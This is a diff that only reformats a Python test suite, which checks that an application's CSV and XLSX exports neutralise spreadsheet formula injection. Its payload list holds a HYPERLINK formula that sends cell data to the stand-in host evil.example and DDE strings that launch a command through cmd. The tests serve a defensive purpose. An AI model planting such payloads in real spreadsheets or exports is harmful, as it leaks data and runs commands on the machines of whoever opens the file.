@@ -16,8 +16,14 @@ from sqlalchemy import Numeric, literal, select, text
 from app.core.export import export_response
 from tests.support.chains import created, enterprise_body
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 # XML parsers read a raw CR (which openpyxl writes as it is) back as LF.
 READ_BACK = {p.replace("\r", "\n") for p in PAYLOADS}
 # Exported cells whose text these records set: the enterprise name and source; the target's notes.
@@ -32,9 +38,18 @@ def planted(client, admin, engine) -> Iterator[list[dict]]:
         for payload in PAYLOADS:
             body = enterprise_body([114.06, 22.54], is_local=False, name=payload, source=payload)
             with created(client, admin, "/api/v1/enterprises", body) as enterprise:
-                r = client.post("/api/v1/targets", json={"enterprise_id": enterprise["id"], "link_id": 1,
-                                                         "region_adcode": "360700", "source": "test suite",
-                                                         "owner": "测试科", "notes": payload}, headers=admin)
+                r = client.post(
+                    "/api/v1/targets",
+                    json={
+                        "enterprise_id": enterprise["id"],
+                        "link_id": 1,
+                        "region_adcode": "360700",
+                        "source": "test suite",
+                        "owner": "测试科",
+                        "notes": payload,
+                    },
+                    headers=admin,
+                )
                 assert r.status_code == 201, r.text
                 made.append(enterprise)
         yield made
@@ -54,8 +69,10 @@ def _xlsx_rows(response) -> list[dict]:
 
 
 def test_xlsx_cells_are_text_with_the_value_unchanged(client, admin, planted) -> None:
-    for path, params, columns in (("/api/v1/enterprises/export", {"is_local": "false"}, (NAME, SOURCE)),
-                                  ("/api/v1/targets/export", {}, (NOTES,))):
+    for path, params, columns in (
+        ("/api/v1/enterprises/export", {"is_local": "false"}, (NAME, SOURCE)),
+        ("/api/v1/targets/export", {}, (NOTES,)),
+    ):
         r = client.get(path, params={**params, "format": "xlsx", "limit": 10_000}, headers=admin)
         sheet_xml = zipfile.ZipFile(io.BytesIO(r.content)).read("xl/worksheets/sheet1.xml").decode()
         assert "<f>" not in sheet_xml, "a formula cell was written"
@@ -67,8 +84,10 @@ def test_xlsx_cells_are_text_with_the_value_unchanged(client, admin, planted) ->
 
 
 def test_csv_cells_are_neutralised(client, admin, planted) -> None:
-    for path, params, columns in (("/api/v1/enterprises/export", {"is_local": "false"}, (NAME, SOURCE)),
-                                  ("/api/v1/targets/export", {}, (NOTES,))):
+    for path, params, columns in (
+        ("/api/v1/enterprises/export", {"is_local": "false"}, (NAME, SOURCE)),
+        ("/api/v1/targets/export", {}, (NOTES,)),
+    ):
         r = client.get(path, params={**params, "format": "csv"}, headers=admin)
         assert r.status_code == 200, r.text
         rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
@@ -83,8 +102,12 @@ def test_csv_cells_are_neutralised(client, admin, planted) -> None:
 # No exported number can be negative today (revenues, counts, coordinates in China), so the rule
 # is checked on a statement of its own through the same export path.
 def _numbers_and_texts():
-    return select(literal(Decimal("-3.50"), Numeric(10, 2)).label("number"), literal(-7).label("integer"),
-                  literal("-3.5").label("negative text"), literal("-1+2").label("formula text"))
+    return select(
+        literal(Decimal("-3.50"), Numeric(10, 2)).label("number"),
+        literal(-7).label("integer"),
+        literal("-3.5").label("negative text"),
+        literal("-1+2").label("formula text"),
+    )
 
 
 def test_negative_numbers_stay_numbers(db) -> None:
